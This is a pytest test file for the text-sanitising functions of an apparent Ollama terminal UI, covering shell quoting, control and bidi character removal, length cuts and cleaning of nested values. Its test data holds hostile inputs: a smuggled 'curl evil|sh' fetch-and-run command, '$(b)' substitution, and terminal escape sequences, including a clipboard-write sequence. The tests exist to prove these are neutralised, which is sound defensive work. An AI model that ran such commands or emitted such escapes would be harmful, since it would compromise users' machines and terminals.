"""Strings from outside, made safe to show."""

from __future__ import annotations

import math
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ollama_tui.core.text import (
    ASCII,
    clean,
    clean_lines,
    clean_value,
    first_line,
    in_shell,
    storable,
)


@pytest.mark.parametrize(
    ("name", "word"),
    [
        ("hf.co/acme/tiny:Q4_K_M", "hf.co/acme/tiny:Q4_K_M"),
        ("x;curl evil|sh", "'x;curl evil|sh'"),
        ("a'$(b)\x1b", "'a'\"'\"'$(b)'"),
        ("", "''"),
    ],
)
def test_a_word_for_a_shell_is_one_word(name: str, word: str) -> None:
    assert in_shell(name) == word


def test_in_ascii_the_signs_of_enter_ctrl_and_sorting_are_different_ones() -> None:
    enter, ctrl, rising, falling = (sign.translate(ASCII) for sign in "↵^▴▾")

    assert len({enter, ctrl, falling}) == len({enter, rising, falling}) == 3


def test_what_is_stored_has_no_half_characters() -> None:
    assert storable("a\x1b\ud800é") == "a\x1b\ufffdé"


class TestCleaningALine:
    @pytest.mark.parametrize(
        ("text", "shown"),
        [
            ("qwen3:8b", "qwen3:8b"),
            ("千问 ü [/b]", "千问 ü [/b]"),
            ("a\x1b[2Jb", "a[2Jb"),
            ("\x1b]52;c;aGFja2Vk\x07x", "]52;c;aGFja2Vkx"),
            ("a\r\n\tb\x00\x7f", "ab"),
            ("a\x85\x9b31mb", "a31mb"),
            ("a\u202eb\u2066c\u061cd", "abcd"),
            ("a\u200bb\ufeffc\u2060d\u206ae", "abcde"),
            ("a\u2028b", "ab"),
            ("a\ud800b", "a\ufffdb"),
        ],
    )
    def test_control_and_bidi_characters_are_removed(self, text: str, shown: str) -> None:
        assert clean(text) == shown

    @pytest.mark.parametrize("value", [None, 7, 1.5, True, [], {}, b"x"])
    def test_what_is_no_text_is_empty(self, value: object) -> None:
        assert clean(value) == ""
        assert clean_lines(value) == ""

    def test_a_long_one_is_cut(self) -> None:
        assert clean("a" * 2000) == "a" * 1000
        assert clean("abc", 2) == "ab"

    @given(st.text(st.characters(exclude_categories=())), st.integers(0, 50))
    def test_it_is_short_and_fit_to_be_written(self, text: str, limit: int) -> None:
        shown = clean(text, limit)

        assert len(shown) <= limit
        assert shown.encode("utf-8").decode("utf-8") == shown
        assert clean(shown, limit) == shown
        assert not {unicodedata.category(letter) for letter in shown} & {"Cc", "Cs", "Zl", "Zp"}

    @pytest.mark.parametrize("mark", [*"\xad\u034f\u180e\u200b\u2060\ufff9", "\U000e0041"])
    def test_nothing_that_cannot_be_seen_stays_in_it(self, mark: str) -> None:
        assert clean(f"qwen{mark}3:8b") == "qwen3:8b"
        assert clean_lines(f"qwen{mark}3:8b\n") == "qwen3:8b\n"


class TestCleaningSeveralLines:
    def test_lines_stay_and_tabs_become_blanks(self) -> None:
        assert clean_lines("a\r\n\tb\nc") == "a\n    b\nc"

    def test_control_and_bidi_characters_are_removed(self) -> None:
        assert clean_lines("a\x1b]0;title\x07\n\u202eb\x9b\u2028c\ud800") == "a]0;title\nbc\ufffd"

    def test_an_endless_one_is_cut(self) -> None:
        assert clean_lines("abc\n" * 10, 6) == "abc\nab"


class TestTakingTheFirstLine:
    @pytest.mark.parametrize(
        ("text", "line"), [("", ""), ("\n \n", ""), ("\n  412: \n\nmore", "412:"), ("one", "one")]
    )
    def test_it_is_the_first_that_says_something(self, text: str, line: str) -> None:
        assert first_line(text) == line

    def test_a_long_one_ends_in_dots(self) -> None:
        assert first_line("abcdef", 4) == "abc…"


def test_megabytes_are_cleaned_as_a_line_is() -> None:
    text = "a\x1b\u202eb\ud800\n" * 60_000

    assert clean_lines(text) == "ab\ufffd\n" * 60_000


def test_the_first_line_of_megabytes_is_found_without_the_rest() -> None:
    assert first_line("\n  first \n" + "x" * 5_000_000, 60) == "first"


def test_all_texts_of_a_value_are_clean() -> None:
    value = {"a\x1b": ["b\x07", {"c": "d\u202e\n"}], "n": 1.5, "t": True, "z": None}

    assert clean_value(value) == {"a": ["b", {"c": "d\n"}], "n": 1.5, "t": True, "z": None}


@pytest.mark.parametrize("number", [math.inf, -math.inf, math.nan])
def test_a_number_that_json_has_no_word_for_is_none(number: float) -> None:
    assert clean_value([number]) == [None]


def test_what_is_nested_for_ever_is_cut() -> None:
    value: list[object] = []
    for _ in range(900):
        value = [value]

    assert str(clean_value(value)) == "[" * 50 + "None" + "]" * 50
